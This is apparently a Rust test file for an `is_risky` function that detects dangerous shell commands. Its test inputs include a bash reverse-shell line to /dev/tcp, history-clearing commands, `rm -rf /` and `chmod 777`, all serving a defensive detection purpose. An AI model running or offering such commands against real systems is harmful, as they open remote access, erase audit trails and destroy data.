use super::*;

#[test]
fn vipw_alone_is_risky() {
    assert!(is_risky("vipw"));
}

#[test]
fn vipw_as_a_word_inside_a_longer_line_is_risky() {
    assert!(is_risky("a vipw b"));
}

#[test]
fn chmod_with_single_space_is_risky() {
    assert!(is_risky("chmod 777"));
}

#[test]
fn chmod_with_extra_interior_whitespace_is_risky() {
    assert!(is_risky("chmod  777"));
}

#[test]
fn chmod_glued_to_following_text_is_not_risky() {
    assert!(!is_risky("chmod777"));
}

#[test]
fn plain_ls_is_not_risky() {
    assert!(!is_risky("ls -la"));
}

#[test]
fn reverse_shell_pattern_is_risky() {
    assert!(is_risky("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
}

#[test]
fn history_clearing_is_risky() {
    assert!(is_risky("history -c"));
    assert!(is_risky("unset HISTFILE"));
}

#[test]
fn destructive_rm_is_risky() {
    assert!(is_risky("rm -rf /"));
}

#[test]
fn command_struct_delegates_to_is_risky() {
    let cmd = Command::new("sess-1", "alice@example.com", "shutdown -h now");
    assert!(cmd.is_risky());
}
